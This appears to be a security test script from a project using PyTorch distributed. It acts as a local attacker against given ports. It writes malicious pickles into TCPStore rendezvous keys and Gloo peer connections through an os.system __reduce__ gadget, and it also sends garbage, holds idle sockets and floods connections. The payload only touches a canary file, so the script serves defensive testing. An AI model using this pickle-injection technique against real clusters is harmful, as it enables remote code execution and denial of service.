"""An attacker on the machine: connects to each given port, and sends pickles, garbage, or nothing.

    python tests/attacker.py LOOT        stdin: lines of "ADDRESS PORT"

Every pickle, if it is executed anywhere, creates a file in the directory LOOT.
"""

from __future__ import annotations

import base64
import encodings.idna  # noqa: F401  # cannot be imported later: the user's files are out of reach then
import os
import pickle
import socket
import struct
import sys
import threading
import time
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

_STRANGER = 65534
_HELD: list[socket.socket] = []
_KEYS = (
    "torch.rendezvous.none",
    "torchelastic/role_info/0",
    "torchelastic/assigned_ranks/0",
    "none/torchelastic/role_info/0",
    "none/torchelastic/assigned_ranks/0",
    "none/torch.rendezvous.none",
)


class _Pickle:
    def __init__(self, loot: Path, name: str) -> None:
        self._command = f"touch {loot / name}"

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self._command,)


def main(loot: Path) -> None:
    if os.getuid() == 0:
        os.setgid(_STRANGER)
        os.setuid(_STRANGER)
    print("ready", flush=True)
    for line in sys.stdin:
        address, port = line.split()
        for attack in (_poison_store, _send_garbage, _take_a_place, _stay_silent, _flood):
            threading.Thread(target=_try, args=(attack, loot, address, int(port)), daemon=True).start()
    sys.stdout.flush()
    os._exit(0)


def _try(attack: object, loot: Path, address: str, port: int) -> None:
    name = attack.__name__.strip("_")  # type: ignore[attr-defined]
    try:
        attack(loot, address, port)  # type: ignore[operator]
        print(name, address, port, "done", flush=True)
    except Exception as error:  # noqa: BLE001  # a stranger does not give up
        print(name, address, port, type(error).__name__, flush=True)


def _poison_store(loot: Path, address: str, port: int) -> None:
    store = dist.TCPStore(address, port, is_master=False, timeout=timedelta(seconds=3), wait_for_workers=False)
    content = base64.b64encode(pickle.dumps(_Pickle(loot, f"store_{port}"))).decode()
    for _ in range(100):
        for key in _KEYS:
            store.set(key, content)
        time.sleep(0.02)


def _send_garbage(loot: Path, address: str, port: int) -> None:
    for content in (os.urandom(4096), b"\0" * 4096, b"\xff" * 64, b"GET / HTTP/1.1\r\n\r\n"):
        with socket.create_connection((address, port), 3) as connection, suppress(OSError):
            connection.sendall(content)


def _take_a_place(loot: Path, address: str, port: int) -> None:
    # Gloo knows a peer by the sequence number that it sends first; then sizes and tensors follow.
    content = pickle.dumps(_Pickle(loot, f"gloo_{port}"))
    for number in range(8):
        connection = socket.create_connection((address, port), 3)
        connection.sendall(struct.pack("<q", number) + content)
        _HELD.append(connection)


def _stay_silent(loot: Path, address: str, port: int) -> None:
    _HELD.extend(socket.create_connection((address, port), 3) for _ in range(20))


def _flood(loot: Path, address: str, port: int) -> None:
    for _ in range(500):
        with suppress(OSError):
            _HELD.append(socket.create_connection((address, port), 3))


main(Path(sys.argv[1]))
